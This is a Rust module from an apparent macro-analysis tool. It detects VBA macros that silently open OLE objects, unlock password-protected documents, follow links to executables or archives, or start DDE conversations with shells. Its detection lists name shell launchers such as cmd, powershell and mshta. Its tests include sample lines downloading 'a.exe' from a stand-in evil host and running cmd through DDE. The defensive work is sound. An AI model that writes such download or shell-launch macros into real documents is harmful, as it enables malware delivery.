//! What a macro opens without a person's doing: an object that lies in the document, a locked document whose password
//! it knows, a program behind a link, a conversation with another program (DDE).

use super::fold::Folded;
use super::lexer::{Line, Token};
use super::{Collected, names_program, said_on, words};
use crate::artifact::Sign;

/// What is opened.
pub(super) fn opening(lines: &[Line], texts: &[Folded], signs: &mut Collected) {
    for line in lines {
        for (at, token) in line.tokens.iter().enumerate() {
            let Token::Word(word) = token else { continue };
            let after = || line.tokens.get(at + 1..).unwrap_or_default();
            match word.as_str() {
                "doverb" => signs.add_line(Sign::OpensObject, line),
                "oleformat" if opens_member(after()) => signs.add_line(Sign::OpensObject, line),
                "passworddocument" if gives_text(after()) => signs.add_line(Sign::OpensObject, line),
                "followhyperlink" if leads_to_program(&said_on(line.number, texts)) => {
                    signs.add_line(Sign::Download, line);
                }
                "ddeinitiate" if talks_to_shell(&said_on(line.number, texts)) => {
                    signs.add_line(Sign::ProcessStart, line);
                }
                _ => {}
            }
        }
    }
}

/// `OLEFormat.Open`, `OLEFormat.Object.Verb`: a person sees nothing being opened.
fn opens_member(after: &[Token]) -> bool {
    let member = after.iter().filter_map(|token| match token {
        Token::Word(word) => Some(word.as_str()),
        _ => None,
    });
    member.take(2).any(|word| ["activate", "activateas", "edit", "open", "verb"].contains(&word))
}

/// `PasswordDocument:="…"` with something written: recorded macros have an empty one.
fn gives_text(after: &[Token]) -> bool {
    matches!(after, [Token::Mark(':'), Token::Mark('='), Token::Text(text), ..] if !text.is_empty())
}

/// Whether a web address ends in a program, or in an archive or disc image that may hold one.
fn leads_to_program(said: &str) -> bool {
    const PACKED: &[&str] =
        &[".zip", ".7z", ".rar", ".iso", ".img", ".vhd", ".cab", ".msix", ".appinstaller"];
    let path = said.split(['?', '#']).next().unwrap_or_default().trim_end();
    let far = said.contains("://") || said.contains("\\\\");
    far && (names_program(path) || PACKED.iter().any(|ending| path.ends_with(ending)))
}

/// Whether a conversation is begun with what starts programs: an interpreter, or the shell itself.
fn talks_to_shell(said: &str) -> bool {
    const SHELLS: &[&str] = &["cmd", "systray", "progman", "powershell", "mshta", "explorer"];
    let interpreter =
        || words::texts().any(|entry| entry.sign == Sign::Interpreter && said.contains(entry.word));
    SHELLS.iter().any(|shell| said.split(|c: char| !c.is_alphanumeric()).any(|word| word == *shell))
        || interpreter()
}

#[cfg(test)]
mod tests {
    use super::super::{fold, lexer};
    use super::*;
    use crate::artifact::Fact;

    fn signs(source: &str) -> Vec<Sign> {
        let lines = lexer::lines(source);
        let texts = fold::texts(&lines);
        let mut signs = Collected { source: source.lines().collect(), ..Collected::default() };
        opening(&lines, &texts, &mut signs);
        let sign = |fact: &Fact| if let Fact::Sign { sign, .. } = fact { Some(*sign) } else { None };
        signs.facts.iter().filter_map(sign).collect()
    }

    #[test]
    fn what_opens_unseen_is_told() {
        for (source, want) in [
            ("ActiveDocument.InlineShapes(1).OLEFormat.DoVerb 0", Sign::OpensObject),
            ("s.OLEFormat.Open", Sign::OpensObject),
            ("Documents.Open FileName:=f, PasswordDocument:=\"x1\"", Sign::OpensObject),
            ("ThisDocument.FollowHyperlink \"http://files.evil.example/a.exe\"", Sign::Download),
            ("FollowHyperlink \"https://files.evil.example/a.zip?id=3\", , True", Sign::Download),
            ("c = DDEInitiate(\"Shell\", \"SysTray\")", Sign::ProcessStart),
            ("x.DDEInitiate \"cmd\", \"/c echo tenpu-test\"", Sign::ProcessStart),
        ] {
            assert!(signs(source).contains(&want), "{source}");
        }
    }

    #[test]
    fn what_people_see_is_not() {
        for source in [
            "ActiveSheet.OLEObjects(\"Box\").Object.Value = True",
            "Documents.Open FileName:=f, PasswordDocument:=\"\"",
            "ThisWorkbook.FollowHyperlink \"https://www.city.example/kitei.pdf\"",
            "ThisWorkbook.FollowHyperlink ThisWorkbook.Path & \"\\manual.exe\"",
            "c = DDEInitiate(\"Excel\", \"Book1.xls\")",
        ] {
            assert_eq!(signs(source), [], "{source}");
        }
    }
}
